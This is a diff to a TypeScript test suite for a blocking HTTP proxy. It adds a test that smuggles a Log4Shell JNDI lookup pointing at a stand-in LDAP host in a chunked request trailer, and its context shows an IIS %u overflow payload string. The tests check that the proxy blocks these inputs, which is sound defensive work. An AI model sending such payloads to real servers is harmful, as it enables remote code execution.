@@ -2,6 +2,7 @@ import { strict as assert } from 'node:assert';
 import { startOrigin, type Origin } from '../helpers/origin.js';
 import { startProxy, type TestProxy } from '../helpers/proxy.js';
 import { rawRequest, statusOf } from '../helpers/raw-http.js';
+import { startRawOrigin, type RawOrigin } from '../helpers/raw-origin.js';
 
 const N = 'N'.repeat(224);
 const TAIL = '%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u00=a';
@@ -66,6 +67,30 @@ describe('proxy: block-mode evasions an IIS origin would still resolve', () => {
     }
     // The origin gets the bytes the client sent, not the resolved path.
     assert.deepEqual(origin.requests.map((r) => r.url.slice(0, 40)), ['/.well-known/security.txt', '/wiki/Special:Search?q=a.b', '/a/./b/../c.html', `/q?${'x'.repeat(37)}`]);
+  });
+});
+
+describe('proxy: header fields after the body (request trailers)', () => {
+  let origin: RawOrigin;
+  let proxy: TestProxy;
+
+  before(async () => {
+    origin = await startRawOrigin();
+    proxy = await startProxy({ upstream: origin.url, mode: 'block' });
+  });
+  after(async () => {
+    await proxy.close();
+    await origin.close();
+  });
+
+  it('never reach the origin: a Log4Shell sent as a trailer, after the headers were judged, cannot walk past block mode', async () => {
+    const answer = await rawRequest(proxy.port, 'POST /t HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-Api-Version\r\n\r\n' +
+      '5\r\nhello\r\n0\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\nGET /next HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
+    assert.deepEqual(answer.match(/^HTTP\/1\.1 \d+/gm), ['HTTP/1.1 200', 'HTTP/1.1 200'], 'both requests answered, in order');
+    const bytes = origin.connections.map((c) => Buffer.concat(c.raw).toString('latin1')).join('');
+    assert.doesNotMatch(bytes, /jndi|x-api-version/i, 'the trailer was not forwarded');
+    assert.match(bytes, /\r\n5\r\nhello\r\n0\r\n\r\n/, 'the body went, framed, with an empty trailer section');
+    assert.deepEqual(origin.requests.map((r) => r.target), ['/t', '/next']);
   });
 });
 
